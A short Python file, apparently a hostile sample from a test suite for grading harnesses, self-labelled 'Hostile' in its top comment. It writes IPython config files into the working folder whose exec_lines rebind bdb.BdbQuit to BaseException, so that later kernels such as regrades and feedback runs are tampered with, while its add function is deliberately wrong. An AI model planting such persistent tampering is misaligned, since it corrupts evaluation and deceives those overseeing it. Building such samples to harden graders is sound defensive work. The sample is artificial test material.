# Hostile: write ipython_config.py / ipython_kernel_config.py into the working folder with exec_lines that rebind bdb.BdbQuit, aiming at any later kernel started there (regrade, feedback run), while this add is simply wrong.
import os

_cfg = (
    "c = get_config()\n"
    "c.InteractiveShellApp.exec_lines = ['import bdb as _b; _b.BdbQuit = BaseException']\n"
)
for _name in ("ipython_config.py", "ipython_kernel_config.py"):
    try:
        with open(os.path.join(os.getcwd(), _name), "w") as _f:
            _f.write(_cfg)
    except OSError:
        pass


def add(a, b):
    return a - b
